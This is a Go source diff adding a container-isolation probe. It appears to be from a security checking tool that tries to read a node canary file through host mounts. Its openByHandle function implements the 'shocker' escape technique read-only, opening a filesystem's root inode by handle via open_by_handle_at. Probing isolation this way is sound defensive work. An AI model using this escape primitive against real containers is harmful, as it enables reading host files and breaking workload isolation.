@@ -1,0 +1,126 @@
+package probe
+
+import (
+	"context"
+	"encoding/binary"
+	"os"
+	"path/filepath"
+	"strings"
+
+	"golang.org/x/sys/unix"
+
+	"kwc.dev/kwc/internal/probespec"
+)
+
+type mountInfo struct {
+	root, point, fstype string
+}
+
+func mounts() ([]mountInfo, error) {
+	b, err := os.ReadFile("/proc/self/mountinfo")
+	if err != nil {
+		return nil, err
+	}
+	var out []mountInfo
+	for _, l := range strings.Split(string(b), "\n") {
+		f := strings.Fields(l)
+		if len(f) < 10 {
+			continue
+		}
+		sep := 6
+		for sep < len(f) && f[sep] != "-" {
+			sep++
+		}
+		if sep+1 >= len(f) {
+			continue
+		}
+		out = append(out, mountInfo{root: unescape(f[3]), point: unescape(f[4]), fstype: f[sep+1]})
+	}
+	return out, nil
+}
+
+func unescape(s string) string {
+	return strings.NewReplacer(`\040`, " ", `\011`, "\t", `\012`, "\n", `\134`, `\`).Replace(s)
+}
+
+// mountedHostFile looks for the node's canary file through every mount whose source
+// directory contains it: a hostPath of /, /var or /var/lib, say.
+func mountedHostFile(_ context.Context, s probespec.Spec, o *obs) {
+	ms, err := mounts()
+	if err != nil {
+		o.logf("reading mountinfo: %v", err)
+		return
+	}
+	tried := 0
+	for _, m := range ms {
+		rest, ok := strings.CutPrefix(s.CanaryPath, strings.TrimSuffix(m.root, "/")+"/")
+		if !ok {
+			continue
+		}
+		p := filepath.Join(m.point, rest)
+		tried++
+		c, err := readSmall(p, 512)
+		if err != nil {
+			continue
+		}
+		o.logf("read %s through the mount at %s (source dir %s, %s)", p, m.point, m.root, m.fstype)
+		o.candidate(c)
+	}
+	o.logf("%d mounts checked, %d could hold the canary path", len(ms), tried)
+}
+
+// openByHandle is the "shocker" technique read-only: from any mount of a disk
+// filesystem, open the filesystem's root inode by handle, then the canary path.
+func openByHandle(_ context.Context, s probespec.Spec, o *obs) {
+	ms, err := mounts()
+	if err != nil {
+		o.logf("reading mountinfo: %v", err)
+		return
+	}
+	tried := map[string]bool{}
+	for _, m := range ms {
+		switch m.fstype {
+		case "ext4", "ext3", "ext2", "xfs", "btrfs":
+		default:
+			continue
+		}
+		if tried[m.point] {
+			continue
+		}
+		tried[m.point] = true
+		h, _, err := unix.NameToHandleAt(unix.AT_FDCWD, m.point, 0)
+		if err != nil {
+			o.logf("name_to_handle_at %s: %v", m.point, err)
+			continue
+		}
+		mfd, err := unix.Open(m.point, unix.O_RDONLY, 0)
+		if err != nil {
+			continue
+		}
+		// FILEID_INO32_GEN: inode 2 is the root of ext* filesystems.
+		raw := make([]byte, 8)
+		binary.LittleEndian.PutUint32(raw, 2)
+		rootFD, err := unix.OpenByHandleAt(mfd, unix.NewFileHandle(1, raw), unix.O_RDONLY|unix.O_DIRECTORY)
+		unix.Close(mfd)
+		if err != nil {
+			o.logf("open_by_handle_at(root inode) via %s (handle type %d): %v", m.point, h.Type(), err)
+			continue
+		}
+		fd, err := unix.Openat(rootFD, strings.TrimPrefix(s.CanaryPath, "/"), unix.O_RDONLY, 0)
+		unix.Close(rootFD)
+		if err != nil {
+			o.logf("opened the root of the filesystem behind %s; canary path: %v", m.point, err)
+			continue
+		}
+		buf := make([]byte, 512)
+		n, _ := unix.Read(fd, buf)
+		unix.Close(fd)
+		o.logf("read the canary path through a handle from %s", m.point)
+		if n > 0 {
+			o.candidate(string(buf[:n]))
+		}
+	}
+	if len(tried) == 0 {
+		o.logf("no ext/xfs/btrfs mount to take a handle from")
+	}
+}
